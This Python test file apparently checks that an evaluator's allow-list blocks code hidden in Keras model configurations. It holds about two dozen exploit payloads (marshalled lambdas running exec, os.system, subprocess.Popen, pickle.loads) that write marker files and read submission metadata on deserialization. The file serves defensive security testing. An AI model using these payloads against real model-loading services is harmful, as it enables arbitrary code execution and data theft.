"""Hands over configurations that are code where Keras rebuilds them: marshalled lambdas, modules and classes by name."""
# only: keras
# shows: raised Ran: \d\d configurations with code
# stopped by: allow-list, roles

# %% before checks
import base64
import itertools
import marshal

import blueprint

CODE = f"""
import glob, os
open({DROP!r} + '/' + {ATTACK!r} + '-evaluator', 'w').write('ran in the evaluator')
print(open({STAGE!r} + '/submission_metadata.json').read())
"""
RUNS = compile(f"lambda x: exec({CODE!r}) or x", "cell 1", "eval").co_consts[0]
MARSHALLED = base64.b64encode(marshal.dumps(RUNS)).decode()
WRITES = compile(f"lambda x: open({DROP!r} + '/' + {ATTACK!r} + '-evaluator', 'w') and x", "", "eval").co_consts[0]
SHORT = base64.b64encode(marshal.dumps(WRITES.replace(co_linetable=b"", co_qualname="", co_name=""))).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None, "closure": None}}


def part(module, class_name, registered=None, /, **config):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def model(*layers, kind="Sequential", **config):
    first = part("keras.layers", "InputLayer", batch_shape=[None, 28, 28, 1], dtype="float32", sparse=False, name="i")
    return part("keras", kind, name="lenet", layers=[first, *layers], **config)


def dense(**config):
    return part("keras.layers", "Dense", **{"name": "d", "units": 10, **config})


node = {"args": [{"class_name": "__lambda__", "config": {"value": MARSHALLED}}], "kwargs": {}}
CONFIGURATIONS = [
    model(part("keras.layers", "Lambda", function={"class_name": "__lambda__", "config": {"code": SHORT}}, name="l")),
    model({**dense(), "inbound_nodes": [{"args": [LAMBDA], "kwargs": {}}]}, kind="Functional", input_layers=[["i", 0, 0]], output_layers=[["d", 0, 0]]),
    model(dense(kernel_initializer={"class_name": "function", "config": "exec", "module": "builtins", "registered_name": "function"})),
    model(part("keras.layers", "Lambda", function=LAMBDA, name="l")),
    model(part("keras.src.layers.core.lambda_layer", "Lambda", function=LAMBDA, name="l")),
    model(part("keras.layers", "TFSMLayer", filepath=DROP, name="t")),
    model(part("keras.layers", "TorchModuleWrapper", module={"class_name": "bytes", "config": MARSHALLED}, name="t")),
    model(dense(activation=LAMBDA)),
    model(dense(activation=part("os", "system"))),
    model(dense(activation="os.system")),
    model(dense(activation=part("builtins", "function", "function", config="exec"))),
    model(dense(kernel_initializer=part("cell 1", "Mine", "Mine>Init"))),
    model(dense(dtype=part("subprocess", "Popen", None, args=["touch", DROP]))),
    model(dense(quantization_config=LAMBDA)),
    model(part("keras.layers", "Dense", "Mine>Dense", units=10, name="d")),
    model({**dense(), "inbound_nodes": [node]}, kind="Functional", input_layers=[["i", 0, 0]], output_layers=[["d", 0, 0]]),
    model({**dense(), "build_config": {"input_shape": [None, 10**9]}, "compile_config": {"optimizer": LAMBDA}}),
    model(part("keras.layers", "TimeDistributed", layer=part("keras.layers", "Lambda", function=LAMBDA), name="w")),
    model(part("keras.layers", "Bidirectional", layer=part("pickle", "loads"), name="w")),
    model(part("keras.src.ops.numpy", "Einsum", subscripts="a" * 300, name="w")),
    model(part("keras.layers", "Discretization", bin_boundaries=[1], name="w"), __proto__={"x": LAMBDA}),
    part("os", "system", None, command="touch " + DROP + "/" + ATTACK),
    part("builtins", "exec", None, source=CODE),
    model(part("keras.src.saving.serialization_lib", "deserialize_keras_object", config=LAMBDA)),
]  # fmt: skip
TURN = globals().get("TURN", itertools.count())  # another one for each question


class Plan:
    def to_dict(self):
        return {"rows": [], "input_shape": [None, 28, 28, 1], "config": CONFIGURATIONS[next(TURN) % len(CONFIGURATIONS)]}


blueprint.of = lambda model, *args, **kwargs: Plan()
blueprint.weights_of = lambda model: []
for name in NAMES:
    if name == "trained" or name.startswith("lenet"):
        globals()[name] = lambda: None

# %% last
say(f"{len(CONFIGURATIONS)} configurations with code")
